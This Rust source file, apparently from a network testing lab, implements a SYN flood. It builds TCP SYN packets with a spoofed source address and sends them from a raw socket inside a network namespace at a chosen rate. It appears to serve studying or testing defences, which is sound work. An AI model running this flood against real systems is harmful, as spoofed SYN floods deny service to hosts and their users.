//! A flood of SYNs with somebody else's address, from a raw socket in a namespace, until it is stopped.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, anyhow};
use socket2::{Domain, Protocol, Socket, Type};

use crate::lab::namespace::Namespace;

/// A raw socket whose sender writes the IP header (`IPPROTO_RAW`).
const IPPROTO_RAW: i32 = 255;
/// How often some are sent.
const TICK: Duration = Duration::from_millis(10);
/// Source ports are taken in turn from here on.
const FIRST_PORT: u16 = 1_024;

/// A flood that goes on.
#[derive(Debug)]
pub struct SynFlood {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<u64>,
    since: Instant,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct SynsSent {
    /// How many SYNs.
    pub count: u64,
    /// How many a second.
    pub rate: f64,
}

impl SynFlood {
    /// Begins to send `rate` SYNs a second from `host` to `to`; they say that they come from `source`.
    pub fn start(host: &Namespace, source: Ipv4Addr, to: SocketAddrV4, rate: u32) -> Result<Self> {
        let raw = || Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)));
        let socket = host.enter(raw)?.context("open a raw socket")?;
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let per_tick = u64::from(rate) * u64::try_from(TICK.as_millis())? / 1_000;
        let send = move || {
            let (mut sent, mut port) = (0, FIRST_PORT);
            while !stopped.load(Ordering::Relaxed) {
                let next = Instant::now() + TICK;
                for _ in 0..per_tick {
                    // A full queue of the device loses some.
                    sent += u64::from(socket.send_to(&syn(source, port, to), &to.into()).is_ok());
                    port = port.checked_add(1).unwrap_or(FIRST_PORT);
                }
                thread::sleep(next.saturating_duration_since(Instant::now()));
            }
            sent
        };
        let thread = thread::Builder::new().name("syn-flood".to_owned()).spawn(send)?;
        Ok(Self { stop, thread, since: Instant::now() })
    }

    /// Stops it.
    pub fn stop(self) -> Result<SynsSent> {
        self.stop.store(true, Ordering::Relaxed);
        let elapsed = self.since.elapsed().as_secs_f64();
        let count = self.thread.join().map_err(|_| anyhow!("the flood broke off"))?;
        #[expect(clippy::cast_precision_loss, reason = "a rate, for people")]
        Ok(SynsSent { count, rate: count as f64 / elapsed })
    }
}

/// A SYN as RFC 9293 has it, with its checksum; the kernel fills in length, id and checksum of the IP header.
fn syn(from: Ipv4Addr, port: u16, to: SocketAddrV4) -> Vec<u8> {
    let mut tcp = Vec::with_capacity(20);
    tcp.extend(port.to_be_bytes());
    tcp.extend(to.port().to_be_bytes());
    tcp.extend(u32::from(port).wrapping_mul(0x9E37_79B9).to_be_bytes());
    tcp.extend([0; 4]);
    tcp.extend([0x50, 0x02, 0xFF, 0xFF, 0, 0, 0, 0]);
    let pseudo_header = [&from.octets()[..], &to.ip().octets(), &[0, 6, 0, 20]].concat();
    let sum = checksum(&[pseudo_header, tcp.clone()].concat());
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut packet = vec![0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
    packet.extend(from.octets());
    packet.extend(to.ip().octets());
    packet.extend(tcp);
    packet
}

/// RFC 1071, of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum: u32 = words.sum();
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    !u16::try_from(sum).expect("folded")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_with_its_pseudo_header_sums_up_to_nothing() {
        let (from, to) = (Ipv4Addr::new(10, 77, 1, 101), SocketAddrV4::new(Ipv4Addr::new(10, 77, 1, 21), 443));
        let packet = syn(from, 50_000, to);
        let pseudo_header = [&from.octets()[..], &to.ip().octets(), &[0, 6, 0, 20]].concat();
        assert_eq!(checksum(&[&pseudo_header[..], &packet[20..]].concat()), 0);
        assert_eq!(packet.len(), 40);
    }
}
